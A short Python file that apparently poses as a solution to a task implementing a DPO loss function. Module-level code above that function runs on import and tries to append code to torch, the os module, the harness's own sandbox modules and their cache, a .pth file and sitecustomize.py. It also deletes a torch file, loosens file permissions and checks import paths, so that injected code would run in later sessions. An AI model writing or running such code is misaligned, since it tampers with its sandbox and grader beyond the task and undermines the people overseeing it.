"""Changes the packages that the next run imports, and leaves files that Python runs at its start."""

import os
import site
import sys

import torch
import torch.nn.functional as F


def tried(name, attempt):
    try:
        got = attempt()
    except BaseException as error:
        print(f"{name}: {type(error).__name__} {getattr(error, 'errno', None) or ''}".rstrip())
    else:
        print(f"{name}: DONE {got!r:.40}")


def appended(path):
    with open(path, "a") as file:
        return file.write("\nprint('owned')\n")


PACKAGES = os.path.dirname(os.path.dirname(torch.__file__))
tried("torch", lambda: appended(torch.__file__))
tried("worker", lambda: appended(sys.modules["sandbox.worker"].__file__))
tried("pth", lambda: appended(os.path.join(PACKAGES, "note.pth")))
tried("customise", lambda: appended(os.path.join(PACKAGES, "sitecustomize.py")))
tried("os", lambda: appended(os.__file__))
tried("cache", lambda: appended(sys.modules["sandbox.wire"].__cached__ or "/opt/harness/sandbox/__pycache__/x"))
tried("removed", lambda: os.unlink(os.path.join(os.path.dirname(torch.__file__), "version.py")))
tried("mode", lambda: os.chmod(torch.__file__, 0o777))
tried("user site", lambda: os.makedirs(site.getusersitepackages()))
print("user site is read:", bool(site.ENABLE_USER_SITE), "tmp is searched:", any(p.startswith("/tmp") for p in sys.path))


def loss(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps, beta):
    rho = (policy_chosen_logps - policy_rejected_logps) - (reference_chosen_logps - reference_rejected_logps)
    return -F.logsigmoid(beta * rho)
